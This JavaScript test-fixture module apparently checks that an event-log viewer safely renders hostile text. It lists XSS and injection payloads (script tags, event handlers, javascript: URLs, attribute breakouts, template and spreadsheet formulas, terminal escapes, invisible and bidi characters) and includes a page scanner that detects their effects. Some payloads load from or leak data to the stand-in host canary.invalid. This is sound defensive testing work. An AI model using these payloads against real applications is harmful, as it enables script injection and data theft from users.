// Texts that somebody could get into an event log, and what must not come of them.
// Code points that nobody can see are written as escapes on purpose.

/** `name → text`; the names go into test reports. */
export const payloads = {
  // Markup that would run or load something.
  'script element': '<script>window.__pwned=1</script>',
  'image with an error handler': '<img src=x onerror="window.__pwned=2">',
  'svg with onload': '<svg/onload=window.__pwned=3>',
  'details with ontoggle': '<details open ontoggle=window.__pwned=4>x</details>',
  'custom element that focuses itself': '<x-a autofocus tabindex=1 onfocus=window.__pwned=5>',
  'frame with its own document': '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
  'style that loads': '<style>@import url(http://canary.invalid/a.css);</style>',
  'link that loads': '<link rel=stylesheet href=http://canary.invalid/b.css><img src=//canary.invalid/c.png>',
  'form that posts': '<form action=http://canary.invalid/><input name=token><button>Sign in</button></form>',
  'dangling image': '<img src="http://canary.invalid/?leak=',
  'meta refresh': '<meta http-equiv=refresh content="0;url=http://canary.invalid/">',
  'base address': '<base href=http://canary.invalid/>',
  'closing what is open': '</script></style></textarea></title></pre></code><script>window.__pwned=7</script>',
  'comment and cdata': '<!--><script>window.__pwned=8</script>--><![CDATA[<script>window.__pwned=9</script>]]>',
  // Leaving an attribute.
  'double quote and handler': '" onmouseover="window.__pwned=10" x="',
  'single quote and focus': "' autofocus onfocus='window.__pwned=11' x='",
  'back-tick and line': '`\nonload=window.__pwned=12 `',
  // Names that scripts trip over.
  'clobbering ids': '<a id=body></a><a id=location></a><form id=app name=app><input name=id></form>',
  'prototype': '__proto__',
  'constructor': 'constructor',
  // Addresses.
  'javascript address': 'javascript:window.__pwned=13',
  'javascript address in disguise': ' \u0001jAvA\tscript:window.__pwned=14//',
  'data address': 'data:text/html,<script>window.__pwned=15</script>',
  'address with credentials': 'https://bank.example@canary.invalid/',
  'protocol-relative address': '//canary.invalid/login',
  'back-slash host': 'https:\\\\canary.invalid\\x',
  // Templates.
  'templates': '{{7*7}} ${7*7} #{7*7} {0} %s%n {:?} <%= 7*7 %>',
  // Direction, and what cannot be seen.
  'right-to-left override': 'nim\u202Eda',
  'lone isolate end then override': 'a\u2069\u202Eb',
  'isolates and marks': '\u2066x\u2069 \u200F1\u200E \u061C2 \u2067y',
  'zero width': 'ad\u200Bmi\u200Cn\u2060\uFEFF',
  'soft hyphen and fillers': 'a\u00ADb\u3164c\u115Fd\u034Fe\u180Ef',
  'tags': 'flag\u{E0067}\u{E0062}\u{E007F}',
  'terminal codes': '\u001B[2J\u001B]8;;http://canary.invalid\u0007x\u0008\u007F\u009B31m',
  'a second line': 'ok\n12:00:00 akadmin signed in',
  'line and paragraph separators': 'a\u2028b\u2029c\u0085d\u000Be\u000Cf\rg',
  'many blanks': `x${' '.repeat(300)}y`,
  // Look-alikes, marks, width.
  'look-alikes': 'аdmin ａｄｍｉｎ 𝐚𝐝𝐦𝐢𝐧 adm\u0131n \u212Aelvin',
  'two hundred marks': `z${'\u0301\u0489'.repeat(100)}`,
  'one long word': 'W'.repeat(4000),
  'wide emoji': '👩‍👩‍👧‍👦'.repeat(200),
  // Text that other programs would act on.
  'spreadsheet formula': '=HYPERLINK("http://canary.invalid","x")',
  'chat mention': '@everyone <!here> [x](http://canary.invalid) ![x](http://canary.invalid/x.png)',
  // Encoded once: decoding it is the mistake.
  'entities': '&lt;img src=x onerror=window.__pwned=16&gt; &#60;script&#62;',
  'percent signs': '%3Cscript%3Ewindow.__pwned=17%3C/script%3E',
  'noncharacters': 'a\uFFFE\uFFFFb\uFFFD',
};

/** What a text node, a title or an attribute must never hold as it is (line feeds and tabs aside). */
export const hidden =
  /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u00AD\u034F\u061C\u115F\u1160\u17B4\u17B5\u180E\u200B\u200E\u200F\u2028-\u202E\u2060-\u206F\u3164\uFEFF\uFFA0\uFFF9-\uFFFB\uFFFE\uFFFF]|[\u{E0000}-\u{E007F}]/u;

/** Everything of the page that data must not have brought about; empty when all is well. */
export function traces(page) {
  return page.evaluate((source) => {
    const hidden = new RegExp(source, 'u');
    const found = [];
    if (window.__pwned !== undefined) found.push(`script ran: ${window.__pwned}`);
    const forbidden = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'IMG', 'STYLE', 'META', 'LINK', 'X-A', 'AUDIO', 'VIDEO'];
    const own = ['srcdoc', 'srcset', 'formaction', 'xlink:href', 'ping', 'style', 'background', 'action'];
    for (const element of document.body.querySelectorAll('*')) {
      // Scripts of the app itself stand in the body or head with a file of this origin.
      if (forbidden.includes(element.tagName) && !(element.tagName === 'SCRIPT' && element.src.startsWith(location.origin))) {
        found.push(`element ${element.outerHTML.slice(0, 80)}`);
      }
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || (own.includes(name) && element.namespaceURI.endsWith('xhtml'))) found.push(`attribute ${name}="${value.slice(0, 40)}"`);
        if (name === 'href' && !/^(#|\/(?!\/)|https?:\/\/)/.test(value)) found.push(`address ${value.slice(0, 60)}`);
        if (name === 'href' && value.includes('canary')) found.push(`link to ${value.slice(0, 60)}`);
        if (['id', 'name'].includes(name) && !/^[a-z][\w-]*$/.test(value)) found.push(`${name}="${value.slice(0, 40)}"`);
        if (hidden.test(value)) found.push(`raw character in ${name}="${JSON.stringify(value.slice(0, 40))}"`);
      }
    }
    for (const name of ['body', 'location', 'app']) {
      if (document.querySelectorAll(`#${name}`).length > 1) found.push(`id ${name} taken`);
    }
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (texts.nextNode()) {
      const text = texts.currentNode.data;
      if (hidden.test(text)) found.push(`raw character in text ${JSON.stringify(text.slice(0, 60))}`);
    }
    if (hidden.test(document.title)) found.push(`raw character in the title ${JSON.stringify(document.title)}`);
    return found;
  }, hidden.source);
}
